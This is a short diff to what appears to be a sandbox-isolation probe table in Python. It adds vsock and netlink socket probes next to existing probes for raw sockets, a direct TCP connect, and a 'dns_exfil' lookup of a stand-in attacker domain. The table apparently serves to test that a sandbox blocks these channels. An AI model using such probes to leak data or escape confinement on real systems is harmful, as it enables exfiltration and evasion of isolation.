@@ -154,6 +154,8 @@ probes = {
   'sys_list': lambda: listdir('/sys/class/net'),
   'raw_socket': lambda: sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
   'packet_socket': lambda: sock(socket.AF_PACKET, socket.SOCK_RAW, 0),
+  'vsock_socket': lambda: sock(40, socket.SOCK_STREAM, 0),
+  'netlink_dgram': lambda: sock(socket.AF_NETLINK, socket.SOCK_DGRAM, 0),
   'direct_tcp': lambda: connect('192.0.2.1', 80),
   'dns_exfil': lambda: resolve('secret-data.x.attacker.test'),
   'ptrace_traceme': ptrace_traceme,
